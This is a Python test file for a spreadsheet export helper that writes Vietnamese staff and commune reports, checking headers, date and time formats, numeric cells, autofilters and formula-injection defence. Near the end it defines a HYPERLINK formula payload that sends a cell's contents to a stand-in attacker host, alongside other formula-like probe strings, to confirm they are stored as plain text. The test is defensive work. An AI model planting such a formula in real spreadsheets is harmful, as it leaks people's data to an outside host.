"""The shared Excel export: read back and checked."""
import io
from datetime import date, datetime

import pandas as pd
from openpyxl import load_workbook

from trainer.core.exports import HEADER_ROW, xlsx_bytes


def test_export_has_title_unit_date_frozen_vietnamese_headers_and_round_trips():
    frame = pd.DataFrame({"Họ và tên": ["Lò Thị Mai", "Vàng A Dình"], "Số năng lực thiếu": [2, 0]})
    data = xlsx_bytes({"Danh sách cán bộ": frame}, title="Danh sách cán bộ thiếu năng lực",
                      unit="Xã Bình Lư", on=date(2026, 11, 23))
    ws = load_workbook(io.BytesIO(data))["Danh sách cán bộ"]
    assert ws["A1"].value == "Danh sách cán bộ thiếu năng lực"
    assert ws["A2"].value == "Đơn vị: Xã Bình Lư — ngày 23/11/2026"
    assert ws.freeze_panes == f"A{HEADER_ROW + 1}"
    assert ws.page_setup.orientation == "landscape"
    assert ws.column_dimensions["A"].width >= len("Vàng A Dình")
    back = pd.read_excel(io.BytesIO(data), sheet_name="Danh sách cán bộ", header=HEADER_ROW - 1)
    pd.testing.assert_frame_equal(back, frame)


def _sheet(data: bytes, name: str):
    return load_workbook(io.BytesIO(data))[name]


def _column(ws, header: str) -> list:
    """The data cells under a header of row HEADER_ROW."""
    col = next(c.column for c in ws[HEADER_ROW] if c.value == header)
    return [row[0] for row in ws.iter_rows(min_row=HEADER_ROW + 1, min_col=col, max_col=col)]


def test_dates_are_date_cells_shown_day_month_year_and_times_in_vietnam():
    frame = pd.DataFrame({
        "Họ và tên": ["Lò Thị Mai", "Vàng A Dình"],
        "Ngày sinh": [date(1990, 2, 28), None],                                   # datetime.date
        "Ngày hoàn thành": pd.to_datetime(["2026-03-31", None]),                  # datetime64, days
        "Hạn": [pd.Timestamp("2030-12-31"), pd.Timestamp("2027-01-15")],          # Timestamps
        "Thời điểm": pd.to_datetime(["2026-11-23 18:30", "2026-11-24 02:00"]).tz_localize("UTC"),
        "Lúc nhập": [datetime(2026, 11, 23, 9, 5), None],                         # naive, a time
    })
    data = xlsx_bytes({"Ngày": frame}, title="Báo cáo", unit="Xã Bình Lư", on=date(2026, 11, 23))
    ws = _sheet(data, "Ngày")

    birth, missing = _column(ws, "Ngày sinh")
    assert birth.data_type == "d" and birth.is_date
    assert birth.value == datetime(1990, 2, 28) and birth.number_format == "dd/mm/yyyy"
    assert missing.value is None
    for header in ("Ngày hoàn thành", "Hạn"):
        cell = _column(ws, header)[0]
        assert cell.is_date and cell.number_format == "dd/mm/yyyy", header
    assert [c.value for c in _column(ws, "Hạn")] == [datetime(2030, 12, 31), datetime(2027, 1, 15)]
    # 18:30 UTC is 01:30 of the next day in Việt Nam; Excel stores no zone, so the local time.
    moments = _column(ws, "Thời điểm")
    assert [c.value for c in moments] == [datetime(2026, 11, 24, 1, 30), datetime(2026, 11, 24, 9)]
    assert {c.number_format for c in moments} == {"dd/mm/yyyy hh:mm"}
    typed = _column(ws, "Lúc nhập")[0]
    assert typed.value == datetime(2026, 11, 23, 9, 5)
    assert typed.number_format == "dd/mm/yyyy hh:mm"
    assert ws.column_dimensions["B"].width >= len("dd/mm/yyyy")
    # Read back by pandas as dates, not text.
    back = pd.read_excel(io.BytesIO(data), sheet_name="Ngày", header=HEADER_ROW - 1)
    assert pd.api.types.is_datetime64_dtype(back["Hạn"])
    assert back["Ngày sinh"].iloc[0] == pd.Timestamp("1990-02-28")


def test_numbers_stay_numeric_cells():
    frame = pd.DataFrame({
        "Đơn vị": ["Xã A", "Xã B"], "Đạt": [12, 0], "Tỷ lệ (%)": [66.7, 0.0],
        "Tốc độ": [None, 1.25], "Số giờ": pd.array([40, None], dtype="Int64"),
        "Ghi chú": ["", "Mã 007"]})
    ws = _sheet(xlsx_bytes({"Số": frame}, title="Số liệu", unit="", on=date(2026, 11, 23)), "Số")
    for header, values in (("Đạt", [12, 0]), ("Tỷ lệ (%)", [66.7, 0.0]), ("Tốc độ", [None, 1.25]),
                           ("Số giờ", [40, None])):
        cells = _column(ws, header)
        assert [c.value for c in cells] == values, header
        assert all(c.data_type == "n" for c in cells if c.value is not None), header
        assert all(not c.is_date for c in cells), header
    assert _column(ws, "Ghi chú")[1].value == "Mã 007"  # a code that looks numeric stays text
    assert ws["A2"].value == "Ngày 23/11/2026"


def test_every_sheet_has_an_autofilter_over_its_header_and_a_frozen_header():
    sheets = {
        "Danh sách": pd.DataFrame({"Họ và tên": ["A", "B", "C"], "Đạt": [1, 2, 3],
                                   "Ngày": [date(2026, 1, 1)] * 3}),
        "Trống": pd.DataFrame({"Mã": pd.Series(dtype=str), "Lý do": pd.Series(dtype=str)}),
    }
    workbook = load_workbook(io.BytesIO(xlsx_bytes(sheets, title="T", unit="U")))
    assert workbook["Danh sách"].auto_filter.ref == f"A{HEADER_ROW}:C{HEADER_ROW + 3}"
    assert workbook["Trống"].auto_filter.ref == f"A{HEADER_ROW}:B{HEADER_ROW}"
    for ws in workbook.worksheets:
        assert ws.freeze_panes == f"A{HEADER_ROW + 1}", ws.title
        assert [c.value for c in ws[HEADER_ROW]][:2] in (["Họ và tên", "Đạt"], ["Mã", "Lý do"])


EVIL = '=HYPERLINK("http://ke-gian.example/"&A4,"bấm")'


def test_text_that_looks_like_a_formula_stays_text_beside_dates_and_numbers():
    texts = [EVIL, "+84 912 345 678", "-5 ngày", "@SUM(1)", "=1+1"]
    frame = pd.DataFrame({"Họ và tên": texts, "Ngày": [date(2026, 5, 1)] * 5,
                          "Số": range(5),
                          "Ghi chú": pd.Series(["=A1", None, 3, date(2026, 5, 2), "x"],
                                               dtype=object)})
    data = xlsx_bytes({"Danh sách": frame}, title="=1+2 báo cáo", unit="@Xã")
    workbook = load_workbook(io.BytesIO(data))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    ws = workbook["Danh sách"]
    assert [c.value for c in _column(ws, "Họ và tên")] == texts
    assert all(c.data_type == "s" for c in _column(ws, "Họ và tên"))
    assert ws["A1"].value == "=1+2 báo cáo" and ws["A1"].data_type == "s"
    notes = _column(ws, "Ghi chú")
    assert (notes[0].value, notes[0].data_type) == ("=A1", "s")
    assert (notes[2].value, notes[2].data_type) == (3, "n")
    assert notes[3].is_date and notes[3].number_format == "dd/mm/yyyy"
    back = pd.read_excel(io.BytesIO(data), sheet_name="Danh sách", header=HEADER_ROW - 1)
    assert back["Họ và tên"].tolist() == texts
